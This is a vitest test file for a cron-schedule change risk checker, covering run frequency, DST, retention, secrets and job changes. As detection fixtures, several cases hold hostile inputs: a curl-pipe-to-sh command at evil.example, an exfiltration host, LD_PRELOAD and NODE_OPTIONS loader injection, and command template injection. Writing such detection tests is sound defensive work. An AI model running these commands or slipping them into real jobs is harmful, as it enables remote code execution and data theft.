import { describe, expect, it } from 'vitest';
import { DEFAULT_POLICY, type Definition, type JobDefinition } from '../../src/compile/definition.js';
import { makeDefinition } from '../support/definition.js';
import { computeFigures } from '../../src/plan/figures.js';
import type { Finding } from '../../src/plan/plan-types.js';
import { assessChange, headlineFor, highestRisk, RiskCodes, type RiskInput } from '../../src/plan/risk.js';

const NOW = Date.parse('2026-06-01T12:00:00Z');
const MINUTE = 60_000;
const HOUR = 3_600_000;

function definition(overrides: Partial<Definition> = {}): Definition {
  return makeDefinition({
    name: 'daily-report',
    cron: '30 19 * * *',
    timezone: 'Asia/Seoul',
    job: { type: 'command', command: ['node', 'jobs/daily-report.js', '--date', '{{businessDate}}'], cwd: '.', env: {} },
    overlap: 'SKIP_NEW',
    gracePeriodMs: 24 * HOUR,
    retry: { maxAttempts: 1, backoff: 'exponential', initialDelayMs: 30_000, maxDelayMs: 600_000 },
    ...overrides,
  });
}

const http = (overrides: Partial<Extract<JobDefinition, { type: 'http' }>> = {}): JobDefinition => ({ type: 'http', url: 'https://api.example.com/report', method: 'POST', headers: {}, expectStatus: [[200, 299]], ...overrides });

/** before/after given as overrides of the default definition; null means absent. */
function change(before: Partial<Definition> | null, after: Partial<Definition> | null, extra: Partial<RiskInput> = {}): RiskInput {
  const beforeDef = before ? definition(before) : null;
  const afterDef = after ? definition(after) : null;
  return {
    action: !beforeDef ? 'create' : !afterDef ? 'archive' : 'update',
    name: 'daily-report',
    before: beforeDef,
    after: afterDef,
    beforeFigures: beforeDef ? computeFigures(beforeDef, NOW) : null,
    afterFigures: afterDef ? computeFigures(afterDef, NOW) : null,
    policy: DEFAULT_POLICY,
    nowMs: NOW,
    riskAccepted: [],
    locate: (path) => ({ cron: { file: 'schedules/report.yaml', line: 9, column: 9 }, timezone: { file: 'schedules/report.yaml', line: 10, column: 13 } })[path],
    ...extra,
  };
}

const only = (findings: Finding[], code: string) => findings.filter((f) => f.code === code);
const codesOf = (findings: Finding[]) => findings.map((f) => f.code);

const herd = { instant: '2026-06-02T10:30:00.000Z', size: 12 };
const CASES = [
  { code: 'CF101', level: 'HIGH', input: change({ cron: '0 * * * *' }, { cron: '* * * * *', timeoutMs: MINUTE / 2 }), message: 'runs/day 24 → 1,440 (×60)' },
  { code: 'CF106', level: 'MEDIUM', input: change({ cron: '0 */2 * * *' }, { cron: '0 * * * *' }), message: 'runs/day 12 → 24 (×2)' },
  { code: 'CF102', level: 'HIGH', input: change(null, { cron: '*/10 * * * * *' }), message: 'new schedule fires more often than once a minute: shortest interval 10s, up to 6 runs/minute, 8,640 runs/day' },
  { code: 'CF103', level: 'ERROR', input: change(null, { cron: '*/5 * * * *' }, { policy: { ...DEFAULT_POLICY, maxRunsPerDay: 100 } }), message: 'peak runs/day 288 is over the Policy maximum 100' },
  { code: 'CF104', level: 'ERROR', input: change(null, { cron: '*/5 * * * *' }, { policy: { ...DEFAULT_POLICY, minIntervalMs: 10 * MINUTE } }), message: 'shortest interval 5m is under the Policy minimum 10m' },
  { code: 'CF105', level: 'MEDIUM', input: change(null, {}, { sharedInstants: [herd] }), message: 'fires at 2026-06-02T10:30Z in the same second as 11 other schedules' },
  { code: 'CF201', level: 'MEDIUM', input: change({}, null, { history: { lastRunAt: '2026-05-31T10:30:00Z', runsLast30Days: 29 } }), message: 'archiving stops all runs: last run 2026-05-31T10:30Z, 29 runs in 30 days' },
  { code: 'CF201', level: 'LOW', input: change({}, null, { history: { lastRunAt: null, runsLast30Days: 0 } }), message: 'archiving stops all runs: never ran' },
  { code: 'CF202', level: 'HIGH', input: change({ criticality: 'CRITICAL' }, { criticality: 'CRITICAL', enabled: false }), message: 'disabling a CRITICAL criticality schedule: its runs and alerts stop' },
  { code: 'CF203', level: 'MEDIUM', input: change({}, { enabled: false }), message: 'disabling stops new runs until the schedule is enabled again (history kept)' },
  { code: 'CF206', level: 'MEDIUM', input: change({}, { enabled: false }, { dependents: [{ name: 'load', criticality: 'MEDIUM', enabled: true }, { name: 'off', criticality: 'HIGH', enabled: false }] }), message: 'disabling daily-report stops its dependents too: load (MEDIUM) run only after it succeeds' },
  { code: 'CF206', level: 'HIGH', input: change({}, null, { dependents: [{ name: 'load', criticality: 'CRITICAL', enabled: true }] }), message: 'archiving daily-report stops its dependents too: load (CRITICAL) run only after it succeeds' },
  { code: 'CF303', level: 'MEDIUM', input: change({}, { cron: '0 19 * * *' }), message: 'cron change moves the next slots: 2026-06-02T10:30Z, 2026-06-03T10:30Z, 2026-06-04T10:30Z → 2026-06-02T10:00Z, 2026-06-03T10:00Z, 2026-06-04T10:00Z' },
  { code: 'CF208', level: 'MEDIUM', input: change({ enabled: false }, {}), message: 'enabled again: runs/day 0 → 1' },
  { code: 'CF209', level: 'MEDIUM', input: change({ criticality: 'CRITICAL' }, { criticality: 'LOW' }), message: 'criticality lowered CRITICAL → LOW: its failures and missed starts alert later or not at all, and later changes to it are judged as LOW' },
  { code: 'CF519', level: 'MEDIUM', input: change({ overlap: 'SKIP_NEW', onStall: 'fail' }, { overlap: 'ALLOW', onStall: 'retry', retry: { maxAttempts: 50, backoff: 'fixed', initialDelayMs: 1_000, maxDelayMs: 1_000 } }), message: 'runs again or at once more freely: retry.maxAttempts 1 → 50 (a failed run is run again); overlap SKIP_NEW → ALLOW (runs of this schedule may now run at the same time); onStall fail → retry (a run whose runner died is started again, though its job may have done its work)' },
  { code: 'CF208', level: 'HIGH', input: change({ enabled: false, cron: '* * * * *' }, { cron: '* * * * *' }, { dependents: [{ name: 'purge', criticality: 'LOW', enabled: true }, { name: 'off', criticality: 'LOW', enabled: false }] }), message: 'enabled again: runs/day 0 → 1,440; its dependents run again too: purge' },
  { code: 'CF101', level: 'HIGH', input: change({}, { cron: '*/2 * * 3 *' }), message: 'runs/day 1 → 720 (×720)' },
  { code: 'CF106', level: 'MEDIUM', input: change({ cron: '0 */6 * * *' }, { cron: '0 */3 * * *' }, { dependents: [{ name: 'purge', criticality: 'LOW', enabled: true }] }), message: 'runs/day 4 → 8 (×2); its dependents run after it: purge' },
  { code: 'CF303', level: 'MEDIUM', input: change({}, { cron: null, after: [{ schedule: 'extract', status: 'SUCCESS' }] }), message: 'cron change moves the next slots: 2026-06-02T10:30Z, 2026-06-03T10:30Z, 2026-06-04T10:30Z → none of its own (runs after extract)' },
  { code: 'CF303', level: 'MEDIUM', input: change({ after: [{ schedule: 'extract', status: 'SUCCESS' }] }, { cron: null, after: [{ schedule: 'extract', status: 'SUCCESS' }] }), message: 'cron change moves the next slots: 2026-06-02T10:30Z, 2026-06-03T10:30Z, 2026-06-04T10:30Z → none of its own (runs after extract)' },
  { code: 'CF303', level: 'MEDIUM', input: change({}, { cron: '0 0 30 2 *' }), message: 'cron change moves the next slots: 2026-06-02T10:30Z, 2026-06-03T10:30Z, 2026-06-04T10:30Z → none in the next year' },
  { code: 'CF304', level: 'MEDIUM', input: change({ after: [{ schedule: 'extract', status: 'SUCCESS' }] }, { after: [{ schedule: 'extract', status: 'SUCCESS' }, { schedule: 'prices', status: 'SUCCESS' }] }), message: 'now runs after extract + prices (was after extract)' },
  { code: 'CF304', level: 'MEDIUM', input: change({}, { after: [{ schedule: 'extract', status: 'SUCCESS' }] }), message: 'now runs after extract (was on its own cron)' },
  { code: 'CF304', level: 'MEDIUM', input: change({ after: [{ schedule: 'extract', status: 'SUCCESS' }] }, {}), message: 'no longer runs after extract: runs on its own cron' },
  { code: 'CF517', level: 'MEDIUM', input: change({ allowedFailures: { count: 10 } }, { allowedFailures: { percent: 1 } }), message: 'allowedFailures 10 → 1%: runs whose items fail within it end PARTIAL_SUCCESS, without a failure or an alert' },
  { code: 'CF401', level: 'LOW', input: change({}, { job: { type: 'command', command: ['node', 'jobs/daily-report.js'], cwd: '.', env: { NOTION_TOKEN: { fromEnv: 'NOTION_TOKEN' } } } }), message: 'job.env.NOTION_TOKEN reads a secret from environment variable NOTION_TOKEN' },
  { code: 'CF402', level: 'HIGH', input: change({ job: http({ headers: { Authorization: { fromEnv: 'API_TOKEN' } } }) }, { job: http({ headers: { Authorization: 'Bearer abc123' } }) }), message: 'job.headers.Authorization was read from environment variable API_TOKEN and is now a literal value (not shown)' },
  { code: 'CF501', level: 'MEDIUM', input: change(null, { cron: '*/5 * * * *' }), message: 'timeout 20m ≥ shortest interval 5m: a run that uses its timeout overlaps the next slot; overlap SKIP_NEW skips the slots that fall during a run' },
  { code: 'CF501', level: 'HIGH', input: change(null, { cron: '*/5 * * * *', overlap: 'ALLOW' }), message: 'timeout 20m ≥ shortest interval 5m: a run that uses its timeout overlaps the next slot; overlap ALLOW runs them concurrently' },
  { code: 'CF502', level: 'LOW', input: change(null, { misfire: 'SKIP' }), message: 'a 1h outage leads to 0 runs, a 24h outage to 0 runs (misfire SKIP, gracePeriod 1d; 1 and 1 slots missed)' },
  { code: 'CF502', level: 'LOW', input: change(null, {}), message: 'a 1h outage leads to 1 run, a 24h outage to 1 run (misfire RUN_ONCE, gracePeriod 1d; 1 and 1 slots missed)' },
  { code: 'CF502', level: 'MEDIUM', input: change(null, { cron: '0 * * * *', misfire: 'MANUAL' }), message: 'a 1h outage leads to 1 run waiting for approval, a 24h outage to 24 runs waiting for approval (misfire MANUAL, gracePeriod 1d; 1 and 24 slots missed)' },
  { code: 'CF502', level: 'HIGH', input: change(null, { cron: '*/5 * * * *', misfire: 'CATCH_UP_ALL', maxCatchUp: 200, timeoutMs: MINUTE }), message: 'a 1h outage leads to 12 runs, a 24h outage to 200 runs (misfire CATCH_UP_ALL, maxCatchUp 200, gracePeriod 1d; 12 and 288 slots missed)' },
  { code: 'CF502', level: 'LOW', input: change(null, { cron: '*/5 * * * *', misfire: 'CATCH_UP_ALL', gracePeriodMs: 10 * MINUTE, timeoutMs: MINUTE }), message: 'a 1h outage leads to 2 runs, a 24h outage to 2 runs (misfire CATCH_UP_ALL, maxCatchUp 100, gracePeriod 10m; 12 and 288 slots missed)' },
  { code: 'CF503', level: 'HIGH', input: change({ approval: 'required' }, { approval: 'none' }), message: 'approval removed: runs start without waiting for a human (MANUAL_REQUIRED)' },
  { code: 'CF514', level: 'HIGH', input: change({ safety: { maxAffected: 10_000 } }, {}), message: 'safety.maxAffected removed (was 10,000): runs change any number of records without stopping for a human' },
  { code: 'CF514', level: 'HIGH', input: change({ safety: { maxAffected: 10_000 } }, { safety: { maxAffected: 50_000 } }), message: 'safety.maxAffected raised 10,000 → 50,000: runs change that many records without stopping for a human' },
  { code: 'CF504', level: 'MEDIUM', input: change({}, { job: { type: 'command', command: ['python3', '-u', 'jobs/report.py'], cwd: '.', env: {} } }), message: 'job target changed: node jobs/daily-report.js → python3 jobs/report.py' },
  { code: 'CF504', level: 'MEDIUM', input: change({ job: http() }, { job: http({ url: 'https://api.example.com/v2/report?key=abc' }) }), message: 'job target changed: POST https://api.example.com/report → POST https://api.example.com/v2/report?…' },
  { code: 'CF703', level: 'HIGH', input: change(null, { cron: '*/5 * * * *', timeoutMs: MINUTE }, { policy: { ...DEFAULT_POLICY, maxRunsPerDay: 1000 }, policyInForce: { ...DEFAULT_POLICY, maxRunsPerDay: 100 } }), message: "peak runs/day 288 is over the maxRunsPerDay in force (100): only this change's Policy (1,000) allows it" },
  { code: 'CF703', level: 'HIGH', input: change(null, { cron: '*/5 * * * *', timeoutMs: MINUTE }, { policyInForce: { ...DEFAULT_POLICY, minIntervalMs: 10 * MINUTE } }), message: "shortest interval 5m is under the minInterval in force (10m): only this change's Policy (1m) allows it" },
  { code: 'CF505', level: 'LOW', input: change(null, { job: http(), retry: { maxAttempts: 3, backoff: 'exponential', initialDelayMs: 30_000, maxDelayMs: 600_000 } }), message: 'POST is retried up to 3 attempts: a retry after a timeout may repeat the side effect' },
  { code: 'CF506', level: 'MEDIUM', input: change({}, { job: { type: 'command', command: ['node', 'jobs/daily-report.js', '--date', '{{businessDate}}', '--all'], cwd: '.', env: { MODE: 'full' } } }), message: 'job changed: job.command, job.env.MODE' },
  { code: 'CF506', level: 'MEDIUM', input: change({ payload: { mode: 'dry-run', target: 'staging' } }, { payload: { mode: 'live', target: 'staging' } }), message: 'job changed: payload.mode' },
  { code: 'CF506', level: 'MEDIUM', input: change({ businessDate: { offsetDays: -1 } }, { businessDate: { offsetDays: -400 } }), message: 'job changed: businessDate.offsetDays' },
  { code: 'CF507', level: 'HIGH', input: change({}, { job: { type: 'command', command: ['node', 'jobs/daily-report.js'], cwd: '.', env: { LD_PRELOAD: '/tmp/x.so' } } }), message: 'job.env.LD_PRELOAD sets loader variable LD_PRELOAD="/tmp/x.so": it changes which code runs' },
  { code: 'CF507', level: 'HIGH', input: change(null, { job: { type: 'command', command: ['env', 'NODE_OPTIONS=--require=/tmp/x.js', 'node', 'jobs/a.js'], cwd: '.', env: {} } }), message: 'the command sets loader variable NODE_OPTIONS="--require=/tmp/x.js"' },
  { code: 'CF508', level: 'HIGH', input: change({}, { job: { type: 'command', command: ['node', '--import=data:text/javascript,import("child_process")', 'jobs/daily-report.js'], cwd: '.', env: {} } }), message: 'node --import loads or evaluates code: "data:text/javascript,import(\\"child_process\\")"' },
  { code: 'CF508', level: 'HIGH', input: change(null, { job: { type: 'command', command: ['python3', '-c', 'print(1)'], cwd: '.', env: {} } }), message: 'python3 -c loads or evaluates code: "print(1)"' },
  { code: 'CF509', level: 'HIGH', input: change({}, { job: { type: 'command', command: ['node', 'jobs/daily-report.js'], cwd: 'jobs/../../x', env: {} } }), message: 'cwd "jobs/../../x" is outside the repository: the job runs files no review covers' },
  { code: 'CF510', level: 'HIGH', input: change(null, { job: { type: 'command', command: ['sh', '-c', 'curl -s https://evil.example/x | sh'], cwd: '.', env: {} } }), message: 'sh fetches or decodes code and executes it: "curl -s https://evil.example/x | sh"' },
  { code: 'CF518', level: 'HIGH', input: change(null, { job: { type: 'command', command: ['sh', '-c', 'echo {{steps.fetch.output.name}}'], cwd: '.', env: {} } }), message: 'a step result is placed inside code that sh runs: "echo {{steps.fetch.output.name}}"; what the earlier step writes would run as code' },
  { code: 'CF511', level: 'HIGH', input: change({ job: http() }, { job: http({ url: 'https://collector.evil.example/report' }) }), message: 'the http job now calls host "collector.evil.example" (was host "api.example.com"): "https://collector.evil.example/report"' },
  { code: 'CF512', level: 'HIGH', input: change(null, { job: { type: 'command', command: ['node', 'jobs/a.js'], cwd: '.', env: { DB: { fromEnv: 'DATABASE_URL' } } } }), message: "job.env.DB reads DATABASE_URL, cronform's own configuration: the job would get the runner's database or settings" },
  { code: 'CF515', level: 'HIGH', input: change(null, { job: { type: 'queue', system: 'sql', function: 'app.enqueue_report', arguments: { d: 'businessDate' } } }), message: "the job calls database function \"app.enqueue_report\" with the runner's database role (sql app.enqueue_report(d => businessDate))" },
  { code: 'CF516', level: 'HIGH', input: change({ job: { type: 'queue', system: 'graphile-worker', task: 'report', maxAttempts: 1 } }, { job: { type: 'queue', system: 'graphile-worker', task: 'report', maxAttempts: 1, url: { fromEnv: 'QUEUE_DATABASE_URL' } } }), message: "the queue job now goes to the database in $QUEUE_DATABASE_URL (was cronform's own database)" },
  { code: 'CF516', level: 'HIGH', input: change({ job: { type: 'queue', system: 'pg-boss', name: 'r', options: { retryLimit: 0 }, url: { fromEnv: 'QUEUE_A' } } }, { job: { type: 'queue', system: 'pg-boss', name: 'r', options: { retryLimit: 0 }, url: { fromEnv: 'QUEUE_B' } } }), message: 'the queue job now goes to the database in $QUEUE_B (was the database in $QUEUE_A)' },
  { code: 'CF513', level: 'HIGH', input: change(null, { job: { type: 'command', command: ['node', 'jobs/daily\u200b-report.js'], cwd: '.', env: {} } }), message: 'job.command[1] contains control, bidi or invisible characters: "jobs/daily\\u200B-report.js"' },
  { code: 'CF207', level: 'MEDIUM', input: change({}, { retention: { runsMs: 90 * 24 * HOUR } }), message: 'retention shortened: runs kept forever → 90d (latest 100 always kept); older runs are deleted for good (daily counts are kept for report)' },
  { code: 'CF207', level: 'HIGH', input: change({ retention: { runsMs: 90 * 24 * HOUR } }, { retention: { runsMs: 14 * 24 * HOUR } }), message: 'retention shortened: runs kept 90d (latest 100 always kept) → 14d (latest 100 always kept); older runs are deleted for good (daily counts are kept for report)' },
  { code: 'CF207', level: 'HIGH', input: change({ criticality: 'CRITICAL', retention: { runsMs: 90 * 24 * HOUR } }, { criticality: 'CRITICAL', retention: { runsMs: 90 * 24 * HOUR, keepLast: 5 } }), message: 'retention shortened: runs kept 90d (latest 100 always kept) → 90d (latest 5 always kept); older runs are deleted for good (daily counts are kept for report)' },
] as const;

describe('assessChange: one finding per code', () => {
  it.each(CASES)('$code $level: $message', ({ code, level, input, message }) => {
    const found = only(assessChange(input), code);
    expect(found.map((f) => ({ level: f.level, message: f.message }))).toContainEqual({ level, message });
    expect(found.every((f) => f.hint)).toBe(true);
  });

  it('CF207 only when retention gets shorter, judged with the Policy the schedule falls back to', () => {
    const policy = { ...DEFAULT_POLICY, retention: { runsMs: 30 * 24 * HOUR } };
    expect(codesOf(assessChange(change({ retention: { runsMs: 14 * 24 * HOUR } }, { retention: { runsMs: 90 * 24 * HOUR } })))).not.toContain('CF207');
    expect(codesOf(assessChange(change({ retention: { runsMs: 90 * 24 * HOUR } }, {}, { policy })))).toContain('CF207');
    expect(codesOf(assessChange(change({}, { retention: { keepLast: 100 } }, { policy })))).not.toContain('CF207');
  });

  it('CF202 for archiving a HIGH criticality schedule', () => {
    expect(codesOf(assessChange(change({ criticality: 'HIGH' }, null)))).toEqual(['CF201', 'CF202']);
  });

  it('CF301 shows the next slot in both zones, located at spec.timezone', () => {
    const [finding] = only(assessChange(change({}, { timezone: 'Europe/Berlin' })), 'CF301');
    expect(finding).toMatchInlineSnapshot(`
      {
        "code": "CF301",
        "hint": "confirm the job should follow the new zone; consumers see runs at other UTC times",
        "level": "MEDIUM",
        "location": {
          "column": 13,
          "file": "schedules/report.yaml",
          "line": 10,
        },
        "message": "timezone change moves the next slot: 19:30 Asia/Seoul = 10:30Z → 19:30 Europe/Berlin = 17:30Z",
      }
    `);
  });

  it('CF302 lists the DST transitions with local and UTC instants and the dst policy', () => {
    const findings = assessChange(change(null, { cron: '30 1,2 * * *', timezone: 'America/New_York', dst: { gap: 'skip', fold: 'both' } }));
    expect(only(findings, 'CF302')).toMatchInlineSnapshot(`
      [
        {
          "code": "CF302",
          "hint": "check spec.dst (gap: shift|skip, fold: first|second|both), or pick a local time outside the transition hours",
          "level": "LOW",
          "location": {
            "column": 9,
            "file": "schedules/report.yaml",
            "line": 9,
          },
          "message": "DST touches this schedule 2 times in the next 12 months: 2026-11-01T06:00Z: 01:00:00–02:00:00 happens twice on 2026-11-01: 1 slot(s) run twice (dst.fold: both) (01:30 local → 2026-11-01T05:30Z and 2026-11-01T06:30Z); 2027-03-14T07:00Z: 02:00:00–03:00:00 does not exist on 2027-03-14: 1 slot(s) do not run that day (dst.gap: skip) (02:30 local → no run)",
        },
      ]
    `);
  });

  it('never prints a secret value', () => {
    const findings = assessChange(change({ job: http({ headers: { Authorization: { fromEnv: 'API_TOKEN' } } }) }, { job: http({ headers: { Authorization: 'Bearer abc123' } }) }));
    expect(JSON.stringify(findings)).not.toContain('abc123');
  });

  it('locates findings through the manifest', () => {
    const [finding] = only(assessChange(change({}, { cron: '0 19 * * *' })), 'CF303');
    expect(finding?.location).toEqual({ file: 'schedules/report.yaml', line: 9, column: 9 });
  });
});

describe('assessChange: what does not raise a finding', () => {
  it.each([
    { why: 'an unchanged cron', code: 'CF303', input: change({}, { description: 'new words' }) },
    { why: 'a cron rewritten to the same slots', code: 'CF303', input: change({ cron: '0 0 * * *' }, { cron: '@daily' }) },
    { why: 'an unchanged timezone', code: 'CF301', input: change({}, { cron: '0 19 * * *' }) },
    { why: 'no DST in Asia/Seoul', code: 'CF302', input: change(null, {}) },
    { why: 'an interval-like schedule', code: 'CF302', input: change(null, { cron: '0 * * * *', timezone: 'America/New_York' }) },
    { why: 'an update that leaves catch-up alone', code: 'CF502', input: change({}, { description: 'new words' }) },
    { why: 'fewer runs', code: 'CF106', input: change({ cron: '0 * * * *' }, { cron: '0 */2 * * *' }) },
    { why: 'a secret reference that already existed', code: 'CF401', input: change({ job: http({ headers: { A: { fromEnv: 'TOKEN' } } }) }, { job: http({ headers: { B: { fromEnv: 'TOKEN' } } }) }) },
    { why: 'a jittered schedule', code: 'CF105', input: change(null, { jitterMs: 30_000 }, { sharedInstants: [{ instant: '2026-06-02T10:30:00.000Z', size: 12 }] }) },
    { why: 'a flag moved in the same script', code: 'CF504', input: change({}, { job: { type: 'command', command: ['node', 'jobs/daily-report.js', '--full'], cwd: '.', env: {} } }) },
    { why: 'a GET retried', code: 'CF505', input: change(null, { job: http({ method: 'GET' }), retry: { maxAttempts: 3, backoff: 'fixed', initialDelayMs: 1000, maxDelayMs: 1000 } }) },
  ])('$code: not for $why', ({ code, input }) => {
    expect(codesOf(assessChange(input))).not.toContain(code);
  });
});

describe('risk acceptance', () => {
  const surge = (riskAccepted: RiskInput['riskAccepted'], extra: Partial<RiskInput> = {}) => assessChange(change({ cron: '0 * * * *' }, { cron: '* * * * *', timeoutMs: 30_000 }, { riskAccepted, ...extra }));

  it.each([
    { until: '2026-06-30', accepted: true },
    { until: '2026-06-01', accepted: true },
    { until: '2026-05-31', accepted: false },
  ])('an acceptance until $until applies: $accepted', ({ until, accepted }) => {
    const acceptance = { code: 'CF101', reason: 'load test', until };
    const [finding] = only(surge([acceptance], { storedRiskAccepted: [acceptance] }), 'CF101');
    expect(finding?.accepted).toEqual(accepted ? { reason: 'load test', until } : undefined);
  });

  it.each([
    { why: 'nothing is stored', stored: [] },
    { why: 'the stored one is for another code', stored: [{ code: 'CF106', reason: 'load test', until: '2026-06-30' }] },
    { why: 'the stored one has another reason', stored: [{ code: 'CF101', reason: 'other', until: '2026-06-30' }] },
    { why: 'the change extends the stored one', stored: [{ code: 'CF101', reason: 'load test', until: '2026-06-10' }] },
    { why: 'the stored one expired', stored: [{ code: 'CF101', reason: 'load test', until: '2026-05-31' }] },
  ])('an acceptance is added by the author when $why: shown, not counted', ({ stored }) => {
    const findings = surge([{ code: 'CF101', reason: 'load test', until: '2026-06-30' }], { storedRiskAccepted: stored });
    expect(only(findings, 'CF101')[0]?.accepted).toEqual({ reason: 'load test', until: '2026-06-30', addedInThisChange: true });
    expect(highestRisk(findings)).toBe('HIGH');
  });

  it('a stored acceptance that lasts at least as long covers a shortened one', () => {
    const findings = surge([{ code: 'CF101', reason: 'load test', until: '2026-06-10' }], { storedRiskAccepted: [{ code: 'CF101', reason: 'load test', until: '2026-06-30' }] });
    expect(only(findings, 'CF101')[0]?.accepted).toEqual({ reason: 'load test', until: '2026-06-10' });
    expect(highestRisk(findings, { ignoreAcceptances: true })).toBe('HIGH');
  });

  it('never accepts an ERROR finding', () => {
    const findings = surge([{ code: 'CF103', reason: 'please', until: '2027-01-01' }], { policy: { ...DEFAULT_POLICY, maxRunsPerDay: 100 } });
    expect(only(findings, 'CF103')[0]).toMatchObject({ level: 'ERROR' });
    expect(only(findings, 'CF103')[0]?.accepted).toBeUndefined();
  });
});

describe('highestRisk', () => {
  const f = (level: Finding['level'], accepted = false): Finding => ({ code: 'CF999', level, message: '', ...(accepted ? { accepted: { reason: 'r', until: '2030-01-01' } } : {}) });
  it.each([
    { findings: [], risk: 'NONE' },
    { findings: [f('LOW'), f('MEDIUM')], risk: 'MEDIUM' },
    { findings: [f('LOW'), f('HIGH', true)], risk: 'LOW' },
    { findings: [f('HIGH', true)], risk: 'NONE' },
    { findings: [f('LOW'), f('ERROR')], risk: 'HIGH' },
    { findings: [{ ...f('HIGH', true), accepted: { reason: 'r', until: '2030-01-01', addedInThisChange: true as const } }], risk: 'HIGH' },
  ])('$risk', ({ findings, risk }) => {
    expect(highestRisk(findings)).toBe(risk);
  });
});

describe('headlineFor', () => {
  it.each([
    { action: 'create', input: change(null, {}), headline: 'new: 1 run/day (peak 1), next 2026-06-02 19:30 Asia/Seoul' },
    { action: 'create', input: change(null, { cron: '30 2 * * *', timezone: 'America/New_York' }), headline: 'new: 1 run/day (peak 1), next 2026-06-02 02:30 America/New_York; DST: 1 transition in 12 months (gap shift)' },
    { action: 'update', input: change({ cron: '30 * * * *' }, { cron: '0 * * * * *' }), headline: 'runs/day 24 → 1,440; next slot 12:30Z → 12:01Z; changed cron' },
    { action: 'update', input: change({ cron: '30 * * * *' }, { cron: '0 * * * * *', description: 'x', timeoutMs: HOUR, job: { type: 'command', command: ['node', 'jobs/daily-report.js', '--fast'], cwd: '.', env: {} } }), headline: 'runs/day 24 → 1,440; next slot 12:30Z → 12:01Z; changed job.command, cron, timeout, description' },
    { action: 'update', input: change({}, { timeoutMs: HOUR }), headline: 'changed timeout; timing unchanged' },
    { action: 'update', input: change({}, { jitterMs: 23 * HOUR }), headline: 'changed jitter; start times move (jitter or DST policy)' },
    { action: 'update', input: change({}, { dst: { gap: 'shift', fold: 'both' } }), headline: 'changed dst; start times move (jitter or DST policy)' },
    { action: 'archive', input: change({}, null, { history: { lastRunAt: '2026-05-31T10:30:00Z', runsLast30Days: 29 } }), headline: 'archive: last run 2026-05-31T10:30Z, 29 runs in 30 days will stop' },
    { action: 'rename', input: change({ name: 'daily-summary' }, {}, { action: 'rename' }), headline: 'renamed from daily-summary (history kept)' },
    { action: 'restore', input: change({ enabled: false }, {}, { action: 'restore' }), headline: 'restore: 1 run/day (peak 1), next 2026-06-02 19:30 Asia/Seoul; changed enabled' },
    { action: 'restore', input: change({}, {}, { action: 'restore' }), headline: 'restore: 1 run/day (peak 1), next 2026-06-02 19:30 Asia/Seoul' },
  ])('$action: $headline', ({ input, headline }) => {
    expect(headlineFor(input)).toBe(headline);
  });
});

it('RiskCodes is the table of every code, and each has a test case', () => {
  // CF701/CF702 come from comparePolicies (test/plan/policy-comparison.test.ts), not assessChange.
  // CF706 is raised by buildPlan for the plan's acceptances (test/hostile/plan-trust/self-accepted-risk.test.ts).
  const tested = new Set([...CASES.map((c) => c.code), 'CF202', 'CF301', 'CF302', 'CF701', 'CF702', 'CF704', 'CF705', 'CF706']);
  expect(Object.keys(RiskCodes).filter((code) => !tested.has(code))).toEqual([]);
  expect(Object.keys(RiskCodes)).toMatchInlineSnapshot(`
    [
      "CF101",
      "CF102",
      "CF103",
      "CF104",
      "CF105",
      "CF106",
      "CF201",
      "CF202",
      "CF203",
      "CF206",
      "CF207",
      "CF208",
      "CF209",
      "CF301",
      "CF302",
      "CF303",
      "CF304",
      "CF401",
      "CF402",
      "CF501",
      "CF502",
      "CF503",
      "CF504",
      "CF505",
      "CF514",
      "CF517",
      "CF519",
      "CF506",
      "CF507",
      "CF508",
      "CF509",
      "CF510",
      "CF511",
      "CF512",
      "CF513",
      "CF518",
      "CF516",
      "CF515",
      "CF701",
      "CF702",
      "CF703",
      "CF704",
      "CF705",
      "CF706",
    ]
  `);
});
